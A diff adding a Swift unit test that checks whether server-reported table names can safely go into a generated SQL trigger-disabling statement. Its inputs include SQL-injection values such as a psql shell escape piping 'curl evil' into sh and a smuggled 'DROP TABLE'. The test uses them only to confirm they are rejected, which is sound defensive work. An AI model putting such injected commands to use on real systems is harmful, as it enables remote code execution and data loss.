@@ -118,4 +118,17 @@ import Testing
         #expect(statements.filter { $0.contains("(MODULUS 3, REMAINDER") }.count == 3)
         #expect(Schema.migrations(partitions: nil) == Schema.migrations)
     }
+
+    @Test(
+        "What a server calls its tables gets into a statement only if that stays one statement.",
+        arguments: [
+            ("public.counters", true), ("\"The; \\Schema\".counters", true), ("public.x \\! curl evil|sh", false),
+            ("public.x; DROP TABLE user_likes", false), ("public.x --", false), ("public.x /*", false),
+            ("\"public.x", false),
+        ])
+    func whatAServerCallsItsTablesGetsIntoAStatementOnlyIfThatStaysOneStatement(place: String, isOne: Bool) {
+        let misfit = SchemaMisfit(["trigger", "counters", place, "t", ""])
+        #expect(misfit?.remedy.sql == (isOne ? "ALTER TABLE \(place) DISABLE TRIGGER t" : nil))
+        #expect(misfit?.remedy.text.isEmpty == false)
+    }
 }
